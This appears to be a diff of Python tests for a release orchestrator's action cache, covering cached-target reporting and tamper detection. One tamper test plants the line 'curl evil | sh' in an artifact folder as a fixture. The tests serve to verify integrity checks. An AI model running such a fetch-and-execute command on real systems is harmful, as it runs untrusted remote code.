@@ -1,6 +1,6 @@
 """The action cache: a release does not build a target again while its published artifact
 is current (the same action key, its binaries and signatures intact), and says so: in the
-run (`cached`), in release.json, and in the dry run (no steps)."""
+run (`cached`) and in the dry run (no steps); release.json lists it as published."""
 
 from __future__ import annotations
 
@@ -22,6 +22,7 @@ from orchestrator.errors import ConfigError
 from orchestrator.execute.ship.publish import update_release_index
 from orchestrator.model.records import BuildManifest, read_record
 from orchestrator.model.release_summary import ReleaseSummary
+from orchestrator.model.run_logs import TARGET_RUNS
 from orchestrator.plan.build_plan import BuildPlan
 from orchestrator.plan.serialize import action_key
 from orchestrator.release.action_cache import look_up
@@ -129,7 +130,7 @@ def test_a_tampered_folder_is_never_cached_nor_signed_again(
         (artifact / "extra.sh").write_text("curl evil | sh\n")
     else:
         record = artifact / "build.json"
-        record.write_text(record.read_text().replace('"finished_at": "', '"finished_at": "1'))
+        record.write_text(record.read_text() + " ")  # still a valid build.json
     if recompute:
         _recompute_sums(artifact)
     lookup = look_up(artifact, key, signer.key.public)
@@ -217,7 +218,8 @@ def test_a_release_reports_a_current_target_as_cached_and_builds_nothing(
         out.file.getvalue()  # type: ignore[attr-defined]
     )
     summary = read_record(artifact.parent / RELEASE_JSON, ReleaseSummary)
-    assert [entry.status for entry in summary.artifacts] == ["cached"]
+    assert [entry.artifact for entry in summary.artifacts] == [plan.artifact_dir]
+    assert not (artifact.parent / TARGET_RUNS).exists()  # nothing built: no run recorded
     # The dry run lists no steps for it, and says why.
     (planned,) = dry_run(options, targets(options, ["cpu"]), [])
     assert planned.cached.artifact and planned.entry().steps == []
